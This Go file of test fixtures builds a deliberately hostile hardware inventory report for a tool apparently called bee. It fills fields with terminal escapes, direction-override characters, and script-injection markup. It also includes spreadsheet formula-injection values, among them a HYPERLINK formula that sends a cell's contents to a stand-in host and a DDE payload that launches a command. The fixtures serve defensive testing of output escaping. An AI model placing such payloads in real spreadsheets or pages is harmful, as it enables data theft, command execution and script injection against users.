package samples

import (
	"encoding/json"
	"fmt"

	"example.com/bee/pkg/inventory"
)

// Evil is what a hostile device would put into a string: escape sequences, C1
// controls, marks that turn the direction of writing, line separators, markup
// for several contexts.
const Evil = "A\x1b[2J\x1b]0;x\x07B\u009b1m\u202eC\u2066\u2028D\u200b\ufeff\r\nE\t\x7f\U000e0041 </script><script>alert(1)</script><!-- \"q\" 'r' \\ <b onclick=alert(1)>&amp; -->"

// formulas are what spreadsheets would compute.
func formulas() []string {
	return []string{`=HYPERLINK("http://x.example/?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"}
}

// Hostile is a machine whose every string is hostile, whose PCI functions are
// their own parents, whose ids collide and whose numbers are absurd.
func Hostile() *inventory.Report {
	r := base()
	r.ClockSynchronized = new(false)
	r.Tool.Version = Evil
	r.Host = &inventory.Host{Meta: meta("host", Evil), Hostname: Evil, Kernel: Evil, OS: Evil, BootMode: Evil}
	r.Board = &inventory.Board{Meta: meta("board"), System: &inventory.System{Manufacturer: Evil, ProductName: Evil, SerialNumber: Evil}, Chassis: &inventory.Chassis{Meta: meta("chassis:0"), AssetTag: "=1+1", Type: Evil}}
	r.CPUs = []inventory.CPU{{Meta: meta("cpu:"+Evil, Evil), Socket: Evil, Model: Evil, Status: Evil, Cores: new(uint32(0xffffffff)), Threads: new(uint32(0))}}
	r.Memory = &inventory.Memory{Meta: meta("memory"), SizeBytes: new(^uint64(0)), ECC: Evil, Slots: new(-1)}
	for i, f := range formulas() {
		r.Memory.Modules = append(r.Memory.Modules, inventory.MemoryModule{
			Meta: meta("dimm:same"), Slot: f, Bank: Evil, Manufacturer: f, PartNumber: f, SerialNumber: f,
		})
		r.Memory.Controllers = append(r.Memory.Controllers, inventory.MemoryController{
			Meta: meta("edac:" + f), Name: f, CorrectedErrors: new(^uint64(0)), UncorrectedNoInfo: new(uint64(i)),
			Modules: []inventory.EDACModule{{Name: Evil, Label: f, CorrectedErrors: new(^uint64(0)), UncorrectedErrors: new(uint64(i))}},
		})
	}
	r.PCIeDevices = []inventory.PCIeDevice{
		{Meta: meta("pci:a"), Address: "0000:00:00.0", Parent: "0000:00:00.0", Vendor: Evil, Device: Evil, ClassID: "zz", Slot: Evil},
		{Meta: meta("pci:b"), Address: "0000:01:00.0", Parent: "0000:02:00.0", Vendor: Evil, ClassID: "030000", OffBus: new(true)},
		{Meta: meta("pci:c"), Address: "0000:02:00.0", Parent: "0000:01:00.0", ClassID: "060400", Link: link(-1, -4, 1e300, 1<<30)},
		{Meta: meta("pci:d"), Address: Evil, Parent: "gone", ClassID: "020000", Driver: Evil, Link: &inventory.PCIeLink{}},
	}
	r.Storage = []inventory.Drive{{
		Meta: meta("drive:"+Evil, Evil), Device: Evil, Protocol: Evil, Vendor: Evil, Model: Evil, SerialNumber: Evil, Firmware: "=cmd", SizeBytes: new(^uint64(0)), Enclosure: &inventory.Enclosure{ID: Evil, Slot: Evil},
		Health: &inventory.DriveHealth{Status: Evil, Reasons: []string{Evil}, TempCelsius: new(-274), BytesRead: Evil, PercentageUsed: new(^uint32(0))},
	}}
	r.PowerSupplies = []inventory.PowerSupply{{Meta: meta("psu:1"), Slot: Evil, Model: Evil, Status: Evil, Health: Evil, InputWatts: new(-1e308)}}
	r.GPUs = []inventory.GPU{{Meta: meta("gpu:1"), Name: Evil, State: Evil, Health: Evil, TempCelsius: new(1 << 40)}}
	r.Network = []inventory.NIC{{Meta: meta("nic:1"), Name: Evil, MAC: Evil, Firmware: Evil}}
	r.BMC = &inventory.BMC{
		Meta: meta("bmc"), Firmware: Evil, Product: Evil,
		Sensors: []inventory.Sensor{{ID: "sensor:1", Name: Evil, Type: Evil, Unit: Evil, Value: new(1e300), Health: Evil}},
	}
	for i, s := range []inventory.Status{inventory.StatusFailed, inventory.StatusTimeout, inventory.StatusDenied, inventory.StatusPartial} {
		end(r, []string{"storage", "bmc", "psu", "memory"}[i], s, Evil)
	}
	r.Issues = append(r.Issues, inventory.Issue{ComponentID: Evil, Field: Evil, Kind: inventory.KindMalformed, Source: Evil, Detail: Evil, Collector: "storage"})
	r.Extensions = map[string]json.RawMessage{"example.com/" + Evil: json.RawMessage(fmt.Sprintf("%q", "</script><!--"))}
	return finish(r)
}
